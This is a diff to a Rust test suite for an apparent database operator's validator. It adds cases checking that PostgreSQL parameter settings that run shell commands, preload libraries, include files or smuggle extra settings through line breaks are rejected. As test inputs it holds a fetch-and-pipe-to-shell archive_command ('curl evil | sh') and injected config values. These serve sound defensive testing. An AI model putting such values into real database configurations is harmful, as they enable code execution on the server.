@@ -38,6 +38,8 @@ impl Kind {
                 "storage": { "size": "1Gi", "storageClassName": "fast" },
                 "replication": { "mode": "sync", "syncReplicas": 1 },
                 "bootstrap": { "initdb": { "database": "app", "owner": "app" } },
+                "parameters": { "work_mem": "8MB", "auto_explain.log_min_duration": "1s",
+                                "search_path": "\"$user\", public" },
                 "backup": {
                     "endpoint": "https://s3.example.com", "bucket": "backups",
                     "credentials": { "secretName": "s3" },
@@ -227,6 +229,48 @@ fn cases() -> Vec<Case> {
             "parameters cannot set what Castellan manages",
         ),
         case(
+            "owned parameter behind a leading space",
+            DatabaseCluster,
+            Create(json!({"parameters": {" archive_command": "curl evil | sh"}})),
+            "parameter names must be PostgreSQL setting names",
+        ),
+        case(
+            "a line break in a parameter name",
+            DatabaseCluster,
+            Create(json!({"parameters": {"work_mem = '1MB'\narchive_command": "sh"}})),
+            "parameter names must be PostgreSQL setting names",
+        ),
+        case(
+            "a line break in a parameter value",
+            DatabaseCluster,
+            Create(json!({"parameters": {"search_path": "public'\nwork_mem = '1"}})),
+            "spec.parameters[search_path]: Invalid value: \"public'\\nwork_mem = '1\": parameter values cannot hold line breaks or NUL characters",
+        ),
+        case(
+            "recovery_end_command",
+            DatabaseCluster,
+            Create(json!({"parameters": {"recovery_end_command": "sh"}})),
+            "parameters cannot set what Castellan manages",
+        ),
+        case(
+            "preloaded code",
+            DatabaseCluster,
+            Create(json!({"parameters": {"shared_preload_libraries": "evil", "work_mem": "8MB"}})),
+            "parameters cannot set what Castellan manages",
+        ),
+        case(
+            "an included file",
+            DatabaseCluster,
+            Create(json!({"parameters": {"include_dir": "/tmp"}})),
+            "parameters cannot set what Castellan manages",
+        ),
+        case(
+            "a recovery target",
+            DatabaseCluster,
+            Create(json!({"parameters": {"Recovery_Target_Xid": "1"}})),
+            "parameters cannot set what Castellan manages",
+        ),
+        case(
             "parameter value not a string",
             DatabaseCluster,
             Create(json!({"parameters": {"max_connections": 200}})),
@@ -273,6 +317,12 @@ fn cases() -> Vec<Case> {
             "backup.bucket must be a valid S3 bucket name",
         ),
         case(
+            "unknown compression",
+            DatabaseCluster,
+            Create(json!({"backup": {"compression": "gzip"}})),
+            "supported values: \"zstd\", \"none\"",
+        ),
+        case(
             "retention keepLast zero",
             DatabaseCluster,
             Create(json!({"backup": {"retention": {"keepLast": 0}}})),
@@ -288,7 +338,13 @@ fn cases() -> Vec<Case> {
             "owner is the superuser",
             DatabaseCluster,
             Create(json!({"bootstrap": {"initdb": {"owner": "postgres"}}})),
-            "cannot be the superuser 'postgres'",
+            "the superuser 'postgres'",
+        ),
+        case(
+            "owner is the replication role",
+            DatabaseCluster,
+            Create(json!({"bootstrap": {"initdb": {"owner": "streaming_replica"}}})),
+            "the replication role 'streaming_replica'",
         ),
         case(
             "engine changed",
@@ -313,12 +369,6 @@ fn cases() -> Vec<Case> {
             DatabaseCluster,
             Update(json!({"storage": {"storageClassName": "slow"}})),
             "storage.storageClassName cannot be changed once set",
-        ),
-        case(
-            "unknown compression",
-            DatabaseCluster,
-            Create(json!({"backup": {"compression": "gzip"}})),
-            "supported values: \"zstd\", \"none\"",
         ),
         case(
             "storage class removed",
